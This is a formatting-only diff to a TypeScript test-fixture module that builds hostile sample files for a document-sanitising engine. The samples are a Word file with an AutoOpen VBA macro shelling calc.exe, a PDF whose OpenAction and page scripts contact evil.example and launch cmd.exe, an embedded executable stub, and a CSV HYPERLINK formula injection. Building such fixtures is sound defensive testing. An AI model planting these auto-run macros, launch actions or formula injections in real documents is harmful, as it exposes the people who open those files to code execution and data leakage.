@@ -79,7 +79,9 @@ export function deflatedEntry(name: string | Buffer, content: Uint8Array | strin
 }
 
 export function zip(files: Record<string, Uint8Array | string>): Uint8Array {
-  return zipSync(Object.fromEntries(Object.entries(files).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])));
+  return zipSync(
+    Object.fromEntries(Object.entries(files).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])),
+  );
 }
 
 /**
@@ -141,7 +143,10 @@ export function markEncrypted(archive: Uint8Array): Buffer {
 const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
 /** A vbaProject.bin is an OLE compound file; its signature is enough for the engine to care. */
-export const VBA_PROJECT = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub')]);
+export const VBA_PROJECT = Buffer.concat([
+  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+  Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub'),
+]);
 
 export const DOCUMENT_TEXT = '塩尻市 情報セキュリティ 会議資料';
 
@@ -200,9 +205,11 @@ export function hostileDocm(): Uint8Array {
     'word/_rels/vbaProject.bin.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Relationships xmlns="${REL}"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>`,
     'word/vbaData.xml': '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
-    'word/activeX/activeX1.xml': '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
+    'word/activeX/activeX1.xml':
+      '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
     'word/media/photo.jpeg': jpegWithExif(),
-    'word/media/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg-script")</script><image href="http://evil.example/svg.png"/></svg>',
+    'word/media/logo.svg':
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg-script")</script><image href="http://evil.example/svg.png"/></svg>',
     'word/media/payload.bin': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0')]),
   });
 }
@@ -334,15 +341,51 @@ export async function hostilePdf(): Promise<Uint8Array> {
   const ctx = doc.context;
   doc.addJavaScript('init', 'app.alert("pwned-by-name-tree")');
   await doc.attach(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), 'invoice.exe', { mimeType: 'application/octet-stream' });
-  doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("http://evil.example/open-action")') }));
-  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("http://evil.example/page-open")') }) }));
-  const launch = ctx.register(ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: ctx.obj({ F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc-launch') }) }));
+  doc.catalog.set(
+    PDFName.of('OpenAction'),
+    ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("http://evil.example/open-action")') }),
+  );
+  page.node.set(
+    PDFName.of('AA'),
+    ctx.obj({ O: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("http://evil.example/page-open")') }) }),
+  );
+  const launch = ctx.register(
+    ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: ctx.obj({ F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc-launch') }) }),
+  );
   const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: launch }));
-  const uri = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 30, 100, 50], A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.city.shiojiri.lg.jp/') }) }));
-  const scriptUri = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 60, 100, 80], A: ctx.obj({ S: 'URI', URI: PDFString.of('javascript:app.alert("uri-script")') }) }));
-  const attachmentAnnot = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 90, 20, 110], FS: ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.js') }) }));
+  const uri = ctx.register(
+    ctx.obj({
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [0, 30, 100, 50],
+      A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.city.shiojiri.lg.jp/') }),
+    }),
+  );
+  const scriptUri = ctx.register(
+    ctx.obj({
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [0, 60, 100, 80],
+      A: ctx.obj({ S: 'URI', URI: PDFString.of('javascript:app.alert("uri-script")') }),
+    }),
+  );
+  const attachmentAnnot = ctx.register(
+    ctx.obj({
+      Type: 'Annot',
+      Subtype: 'FileAttachment',
+      Rect: [0, 90, 20, 110],
+      FS: ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.js') }),
+    }),
+  );
   // A harmless GoTo whose Next chain runs JavaScript.
-  const chained = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 120, 100, 140], A: ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: [ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("next-chain")') })] }) }));
+  const chained = ctx.register(
+    ctx.obj({
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [0, 120, 100, 140],
+      A: ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: [ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("next-chain")') })] }),
+    }),
+  );
   page.node.set(PDFName.of('Annots'), ctx.obj([link, uri, scriptUri, attachmentAnnot, chained]));
   doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [], XFA: PDFString.of('<xdp:xdp>xfa-payload</xdp:xdp>') }));
   return doc.save({ useObjectStreams: false });
@@ -449,7 +492,11 @@ export function jpegWithExif(): Buffer {
 
 /** Base64 at 76 columns, as MIME writes it. */
 function mimeBase64(bytes: Uint8Array): string {
-  return (Buffer.from(bytes).toString('base64').match(/.{1,76}/g) ?? []).join('\r\n');
+  return (
+    Buffer.from(bytes)
+      .toString('base64')
+      .match(/.{1,76}/g) ?? []
+  ).join('\r\n');
 }
 
 export const MAIL_TEXT = '来週の会議資料を添付します。';
@@ -493,14 +540,21 @@ export function hostileEmail(): Buffer {
 
 // ---------------------------------------------------------------- text and programs
 
-export const SJIS_CSV_TEXT = '氏名,住所,電話\r\n山田太郎,塩尻市大門七番町3-3,0263-52-0280\r\n髙橋①,"=HYPERLINK(""http://evil.example"",""click"")",-12.5\r\n';
+export const SJIS_CSV_TEXT =
+  '氏名,住所,電話\r\n山田太郎,塩尻市大門七番町3-3,0263-52-0280\r\n髙橋①,"=HYPERLINK(""http://evil.example"",""click"")",-12.5\r\n';
 
 export function shiftJisCsv(): Buffer {
   return iconv.encode(SJIS_CSV_TEXT, 'cp932');
 }
 
 export const ELF_HEADER = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
-export const PE_HEADER = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0'), Buffer.alloc(200)]);
+export const PE_HEADER = Buffer.concat([
+  Buffer.from('MZ'),
+  Buffer.alloc(58),
+  Buffer.from([0x40, 0, 0, 0]),
+  Buffer.from('PE\0\0'),
+  Buffer.alloc(200),
+]);
 /** Shell link header (ShellLinkHeader with the LinkCLSID). */
 export const LNK_HEADER = Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]);
 export const CFB_HEADER = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
